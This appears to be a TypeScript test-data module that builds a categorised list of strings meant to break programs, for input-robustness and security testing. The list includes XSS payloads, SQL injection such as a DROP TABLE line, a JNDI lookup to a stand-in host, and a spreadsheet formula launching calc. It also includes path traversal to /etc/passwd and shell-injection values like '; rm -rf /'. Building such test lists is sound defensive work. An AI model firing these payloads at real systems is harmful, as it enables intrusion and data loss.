// Texts that break programs, in kinds. Our own selection: each kind is a few seeds put through the spellings that matter for it.
// What runs as script calls `naughty()`, or `alert`, so that a browser notices.

const CALLS = ["naughty()", "alert(1)", "naughty`1`", "window['naughty']()", "self.naughty()"];
const TAGS = [
  (call: string) => `<script>${call}</script>`,
  (call: string) => `</script><script>${call}</script>`,
  (call: string) => `<ScRiPt >${call}</sCrIpT >`,
  (call: string) => `--><script>${call}</script><!--`,
  (call: string) => `</title><script>${call}</script>`,
  (call: string) => `</textarea><script>${call}</script>`,
  (call: string) => `</style><script>${call}</script>`,
  (call: string) => `]]><script>${call}</script>`,
  (call: string) => `<script src="data:text/javascript,${call}"></script>`,
  (call: string) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call: string) => `<svg><script>${call}</script></svg>`,
  (call: string) => `<math><mtext><script>${call}</script></mtext></math>`,
  (call: string) => `<object data="data:text/html,<script>${call}</script>"></object>`,
  (call: string) => `<base href="javascript:${call}//">`,
];
const HANDLERS = [
  "onerror",
  "onload",
  "onfocus autofocus x",
  "onmouseover",
  "ontoggle",
  "onanimationstart",
];
const HOLDERS = [
  "<img src=x",
  "<svg",
  "<body",
  "<input autofocus",
  "<details open",
  "<video src=x",
  "<marquee",
];
const BREAKOUTS = ['"', "'", "`", '">', "'>", "</p>", '\\"', "&quot;", "&#34;>"];
const LINKS = [
  "javascript:naughty()",
  "JaVaScRiPt:naughty()",
  "java\tscript:naughty()",
  "\u0001javascript:naughty()",
  "data:text/html,<script>naughty()</script>",
  "vbscript:naughty",
  "//elsewhere.example/x",
  "javascript&colon;naughty()",
];
const TEMPLATES = [
  "{{7*7}}",
  "${7*7}",
  "#{7*7}",
  "<%= 7*7 %>",
  "{{constructor.constructor('naughty()')()}}",
  "[[${7*7}]]",
  "{%25 x %25}",
  "@(7*7)",
  "${jndi:ldap://elsewhere.example/a}",
  "{{__proto__}}",
  "*{7*7}",
  "~{x}",
];
const SQL = [
  "' OR '1'='1",
  "'; DROP TABLE report; --",
  '" OR ""="',
  "1; SELECT pg_sleep(9)--",
  "') UNION SELECT NULL--",
  "\\' OR 1=1 --",
  "%' AND 1=0 --",
  "_%",
  "admin'--",
  "'||(SELECT 1)||'",
  "/* */",
  "\\x27",
];
const BIDI = [
  "\u202Egpj.exe",
  "\u202Dabc\u202C",
  "\u2066abc\u2069",
  "\u2067right\u2069 left",
  "\u200Fmark",
  "\u061Cmark",
  "a\u202Eb\u202Cc\u202Ed",
  "\u202B\u202B\u202B\u202Bdeep",
];
const ZERO_WIDTH = [
  "zero\u200Bwidth",
  "join\u200Der",
  "\uFEFFbom",
  "soft\u00ADhyphen",
  "word\u2060joiner",
  "\u180Emongol",
  "tag\u{E0041}\u{E007F}",
  "invisible\u2063x",
  "\u115F",
  "\u3164",
];
const EMOJI = [
  "👩‍👩‍👧‍👦",
  "🏳️‍🌈",
  "👍🏿",
  "🇺🇳🇺🇸",
  "1️⃣",
  "🫠🫡🫥",
  "👨🏻‍❤️‍💋‍👨🏿",
  "\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}",
  "♥️ ♥︎",
];
const SCRIPTS = [
  "مرحبا بالعالم",
  "שלום עולם",
  "العدد 123-456 (ب)",
  "नमस्ते दुनिया",
  "สวัสดีชาวโลกที่ไม่มีช่องว่างระหว่างคำเลยสักคำเดียว",
  "部落格漢字測試字串",
  "ᚠᛇᚻ᛫ᛒᛦᚦ",
  "𓀀𓁐𓂀",
  "𝕳𝖊𝖑𝖑𝖔",
  "ﷺ﷽",
  "ﬁ ligature",
  "ǅ ß ŉ",
];
const MARKS = [
  "Z\u0336a\u0335l\u0334g\u0335o\u0336",
  "a".concat("\u0301".repeat(60)),
  "e\u0301",
  "\u00E9",
  "A\u030A \u212B",
  "\u1E9B\u0323",
  "Ω \u2126",
  "\u0345\u0345",
  "ſ K",
  "한글 \u1112\u1161\u11ab",
];
const FORMULAS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("http://elsewhere.example","x")',
  "\t=1",
  "\r=1",
  "=IMPORTXML(1)",
  "＝1+1",
];
const PATHS = [
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "/dev/null",
  "C:\\con",
  "file:///etc/passwd",
  "%2e%2e%2f",
  "....//",
  "nul",
  "aux.jpg",
  "a/b/c",
  "~root",
  ".",
  "..",
  "$HOME",
  "`id`",
  "; rm -rf /",
  "| cat",
  "$(id)",
  "--help",
  "-rf",
];
const NULLS = [
  "null",
  "undefined",
  "NaN",
  "nil",
  "None",
  "true",
  "false",
  "0",
  "-0",
  "1e309",
  "[object Object]",
  "Infinity",
  "{}",
  "[]",
  "(null)",
  "__proto__",
  "constructor",
  "hasOwnProperty",
  "toString",
  "NULL",
  "0x0",
  "00",
  "1/0",
  "''",
];
const ODD = [
  "\ud800 half",
  "half \udfff",
  "\ufffe \uffff",
  "a\u2028b\u2029c",
  "line\u0085next",
  "\u0007bell",
  "esc\u001b[31mred",
  "\u009bcsi",
  "del\u007f",
  "a\vb\fc",
  "%s%n%x%d",
  "%00",
  "\\0",
  "\\u0000",
  "&nbsp;&lt;&#0;&#x110000;",
  "&lt;script&gt;naughty()&lt;/script&gt;",
];
const LONG = [
  "w".repeat(190),
  "m".repeat(119),
  "W".repeat(60),
  "\u4e2d".repeat(100),
  "🧱".repeat(50),
  "a-".repeat(59),
  "é".repeat(99),
  "ا".repeat(110),
  "/".repeat(118),
  "_".repeat(115),
  "\u00a0".repeat(40).concat("x"),
  "x".repeat(48).concat("@").concat("y".repeat(60)),
];

/** About five hundred texts, each with the kind it belongs to. */
export const NAUGHTY: readonly { readonly kind: string; readonly text: string }[] = [
  ...kind(
    "script",
    CALLS.flatMap((call) => TAGS.map((tag) => tag(call))),
  ),
  ...kind(
    "handler",
    HOLDERS.flatMap((holder) => HANDLERS.map((on) => `${holder} ${on}=naughty()>`)),
  ),
  ...kind(
    "attribute",
    BREAKOUTS.flatMap((out) =>
      [
        "onfocus=naughty() autofocus",
        "style=x:y",
        "><img src=x onerror=naughty()>",
        "accesskey=x onclick=naughty()",
      ].map((rest) => `${out} ${rest} ${out}`),
    ),
  ),
  ...kind(
    "link",
    LINKS.flatMap((link) => [
      link,
      `<a href="${link}">x</a>`,
      `[x](${link})`,
      `<form action="${link}"><button>x`,
    ]),
  ),
  ...kind("style", [
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//elsewhere.example>",
    "</div></div></main></body>",
    "<plaintext>",
    "<!--",
    "<table><tr><td>",
    '<noscript><p title="</noscript><img src=x onerror=naughty()>">',
    "<xmp>",
    "<template>",
    "<frameset>",
  ]),
  ...kind(
    "template",
    TEMPLATES.flatMap((text) => [text, `x${text}y`]),
  ),
  ...kind(
    "sql",
    SQL.flatMap((text) => [text, text.toUpperCase().concat(" ")]),
  ),
  ...kind(
    "bidi",
    BIDI.flatMap((text) => [text, `${text}.jpg`, `(${text})`]),
  ),
  ...kind(
    "zero width",
    ZERO_WIDTH.flatMap((text) => [text, text.repeat(3)]),
  ),
  ...kind(
    "emoji",
    EMOJI.flatMap((text) => [text, text.repeat(6)]),
  ),
  ...kind(
    "writing",
    SCRIPTS.flatMap((text) => [text, `${text} abc ${text}`]),
  ),
  ...kind("marks", MARKS),
  ...kind("formula", FORMULAS),
  ...kind("path", PATHS),
  ...kind("nothing", NULLS),
  ...kind("odd", ODD),
  ...kind(
    "long",
    LONG.flatMap((text) => [text, `${text} ${text}`.slice(0, 119)]),
  ),
];

function kind(name: string, texts: readonly string[]) {
  return texts.map((text) => ({ kind: name, text }));
}

/** All texts in as few values as a field of this length can hold; what is longer alone is cut. */
export function filledTo(limit: number): readonly string[] {
  const values: string[] = [];
  let value = "";
  for (const { text } of NAUGHTY) {
    if (value !== "" && value.length + text.length + 1 > limit) {
      values.push(value);
      value = "";
    }
    value = value === "" ? text.slice(0, limit) : `${value} ${text}`;
  }
  return [...values, value];
}
